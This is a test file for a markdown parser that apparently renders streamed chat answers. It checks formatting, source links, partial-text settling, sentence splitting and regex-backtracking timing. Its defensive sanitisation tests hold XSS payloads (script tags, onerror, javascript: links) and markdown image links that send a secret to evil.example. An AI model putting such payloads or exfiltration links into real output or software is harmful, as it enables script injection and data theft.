import { describe, expect, test } from "vitest";
import { cpuTime } from "#tests/support/cpu-time.ts";
import type { Locale } from "#i18n/locale.ts";
import { finishedSentences, parseMarkdown, plainText, settleMarkdown } from "./parse-markdown.ts";

const allowed = { origin: "https://site.example", mails: ["a@b.example"], phones: [], ownPages: [] };
const parse = (text: string) => parseMarkdown(text, allowed);
const line = (text: string) => {
  const [block] = parse(text).blocks;
  return block?.type === "paragraph" ? block.children : block;
};
const link = (kind: string, href: string, ...children: unknown[]) => ({
  type: "link",
  target: { kind, href },
  children,
});
const page = (href: string, ...children: unknown[]) => link("page", href, ...children);

const strong = (...children: unknown[]) => ({ type: "strong", children });
const emphasis = (...children: unknown[]) => ({ type: "emphasis", children });

describe("blocks", () => {
  test("paragraphs, lists and numbered lists, also without blank lines between", () => {
    expect(parse("One\ntwo.\n\nThree:\n- a\n- b\n  more\n\n- c\n1. x\n2. y\n\nEnd.").blocks).toEqual([
      { type: "paragraph", children: ["One\ntwo."] },
      { type: "paragraph", children: ["Three:"] },
      { type: "list", start: undefined, items: [["a"], ["b more"], ["c"]] },
      { type: "list", start: 1, items: [["x"], ["y"]] },
      { type: "paragraph", children: ["End."] },
    ]);
  });

  test("a heading is bold, a quotation text, a rule nothing, code keeps its lines", () => {
    expect(parse("## Title ##\ntext\n> said\n\n---\n\n```js\nconst a = **1**;\n\n<b>\n```\nend\r\n").blocks).toEqual([
      { type: "paragraph", children: [strong("Title")] },
      { type: "paragraph", children: ["text\nsaid"] },
      { type: "code", text: "const a = **1**;\n\n<b>" },
      { type: "paragraph", children: ["end"] },
    ]);
  });

  test("nothing is nothing", () => {
    expect(parse("\n \n")).toEqual({ blocks: [], sources: [] });
  });
});

describe("inside a line", () => {
  test.each([
    ["a **b** c", ["a ", strong("b"), " c"]],
    ["__b__ and *i* and _i_", [strong("b"), " and ", emphasis("i"), " and ", emphasis("i")]],
    ["**a *b* c**", [strong("a ", emphasis("b"), " c")]],
    ["`**a**`", [{ type: "code", text: "**a**" }]],
    ["snake_case_name 2 * 3 * 4 ** 5", ["snake_case_name 2 * 3 * 4 ** 5"]],
    ["\\*not\\* \\[a\\](/about)", ["*not* [a](/about)"]],
    ["**خدمات** الجوال", [strong("خدمات"), " الجوال"]],
    ["[Mobile](/services/mobile).", [page("/services/mobile", "Mobile"), "."]],
    ["[**Mobile**](https://site.example/ar/services/mobile)", [page("/ar/services/mobile", strong("Mobile"))]],
    ["<mailto:a@b.example>", [link("mail", "mailto:a@b.example", "a@b.example")]],
  ])("%s", (text, expected) => {
    expect(line(text)).toEqual(expected);
  });

  test.each([
    ["<script>alert(1)</script>", ["<script>alert(1)</script>"]],
    ["<img src=x onerror=alert(1)>", ["<img src=x onerror=alert(1)>"]],
    ["![seen](https://evil.example/?q=secret)", ["seen"]],
    ["![](https://evil.example/?q=secret) x", [" x"]],
    ["[![a](https://evil.example/a.png)](https://evil.example)", ["[a](https://evil.example)"]],
    ["[here](https://evil.example)", ["here"]],
    ["[here](mailto:a@evil.example) or <tel:900123>", ["here or 900123"]],
    ["[here](javascript:alert(1))", ["[here](javascript:alert(1))"]],
    ["[here](javascript:alert`1`)", ["here"]],
    ["[here](//evil.example)", ["here"]],
    ["[here](/about\n.evil)", ["[here](/about\n.evil)"]],
    ["<https://evil.example/x>", ["https://evil.example/x"]],
    ["https://site.example/about", ["https://site.example/about"]],
    ["[a][b]\n[b]: https://evil.example", ["[a][b]\n[b]: https://evil.example"]],
  ])("%s is text and nothing else", (text, expected) => {
    expect(line(text)).toEqual(expected);
  });

  test.each(["# C#", "## C# ##", "### C#  ###"])("%j is a heading whose own mark stays", (text) => {
    expect(line(text)).toEqual([strong("C#")]);
  });
});

/** Milliseconds; an expression that tries one place twice takes seconds or hours. */
const soon = 2000;

test.each([
  ...["[", "*", "**a", "`", "_a", "![", "[a](", "<a:", "\\", "- ", "> ", "# ", "![](", "_a_", "\n", "* * *\t"].map(
    (unit) => [unit, unit.repeat(8000 / unit.length)],
  ),
  ["an escape after a bracket", `[${"\\x".repeat(300)}`],
  ["a path of Windows", `see [${"C:\\share\\".repeat(100)}`],
  ["space in a heading", `# ${" ".repeat(8000)}x`],
  ["marks in a heading", `# ${" #".repeat(4000)}x`],
  ["space in an entry", `- ${" ".repeat(8000)}x\u2028y`],
])("a long run of %j is read in no time", async (_, text) => {
  expect(await cpuTime(() => parse(text!))).toBeLessThan(soon);
});

describe("sources", () => {
  test("a last paragraph of links to pages is taken out of the text", () => {
    const { blocks, sources } = parse("We build apps.\n\n[Mobile](/services/mobile) · [Our **work**](/about#work)");
    expect(blocks).toEqual([{ type: "paragraph", children: ["We build apps."] }]);
    expect(sources).toEqual([
      { title: "Mobile", path: "/services/mobile" },
      { title: "Our work", path: "/about#work" },
    ]);
  });

  test.each([
    "Text with [a link](/about).",
    "[a link](/about)",
    "[a link](/about)\n\nText.",
    "Text.\n\n[write](mailto:a@b.example)",
    "Text.\n\n[evil](https://evil.example)",
    "Text.\n\n- [a](/about)\n- [b](/contact)",
  ])("%j names none", (text) => {
    expect(parse(text).sources).toEqual([]);
  });
});

test("as plain text, an answer reads as its lines", () => {
  const text = "**One** `two`\n\n1. [a](/about)\n2. *b*\n\n- c\n\n[Source](/about)";
  expect(plainText(parse(text))).toBe("One two\n1. a\n2. b\nc");
});

test.each([
  ["Plain text", "Plain text"],
  ["See [Mob", "See "],
  ["See [Mobile]", "See "],
  ["See [Mobile](/serv", "See "],
  ["See [Mobile](/services)", "See [Mobile](/services)"],
  ["An ![image](https://x", "An "],
  ["We **build", "We **build**"],
  ["We **", "We "],
  ["We **build*", "We **build"],
  ["We **build**", "We **build**"],
  ["**a**\n\nWe **b", "**a**\n\nWe **b**"],
  ["Run `npm", "Run `npm`"],
  ["List:\n- a\n- ", "List:\n- a"],
  ["List:\n-", "List:"],
])("%j is shown as %j", (arrived, shown) => {
  expect(settleMarkdown(arrived)).toBe(shown);
});

test.each(["\n", " ", "[](", "![", "*", "- \n", "1"])("a long run of %j settles in no time", async (unit) => {
  const time = await cpuTime(() => {
    for (const end of ["", "x", "\nx"]) settleMarkdown(`\n${unit.repeat(8000 / unit.length)}${end}`);
  });
  expect(time).toBeLessThan(soon);
});

test.each<[Locale, string, string[]]>([
  ["en", "We build", []],
  ["en", "We build apps.", []],
  ["en", "We build apps. They", ["We build apps."]],
  ["en", "First\nSecond\nThi", ["First", "Second"]],
  ["en", "It costs 2.5 per cent. No", ["It costs 2.5 per cent."]],
  ["ar", "نبني التطبيقات. هل تريد المزيد؟ نعم", ["نبني التطبيقات.", "هل تريد المزيد؟"]],
])("%s: of %j, still arriving, %j is read out", (locale, text, expected) => {
  expect(finishedSentences(text, locale, false)).toEqual(expected);
});

test("at the end everything is", () => {
  expect(finishedSentences("One. Two\n\nThree", "en", true)).toEqual(["One.", "Two", "Three"]);
  expect(finishedSentences("", "en", true)).toEqual([]);
});
